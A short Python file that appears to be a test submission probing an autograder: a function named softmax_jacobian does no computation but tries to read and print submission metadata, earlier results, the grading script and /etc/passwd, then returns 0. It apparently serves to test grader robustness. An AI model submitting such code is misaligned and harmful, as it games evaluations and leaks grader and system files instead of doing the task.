"""attack: reads earlier results and the submission's metadata
question: 2.5
verdict: 0
"""

ATTEMPTS = [
    lambda: open('/autograder/submission_metadata.json').read(),
    lambda: open('/autograder/results/results.json').read(),
    lambda: open('__RESULTS__/results.json').read(),
    lambda: open('/autograder/run_autograder').read(),
    lambda: open('/etc/passwd').read(),
]


def softmax_jacobian(z):
    for attempt in ATTEMPTS:
        try:
            print(attempt())
        except Exception as error:
            print(error)
    return 0
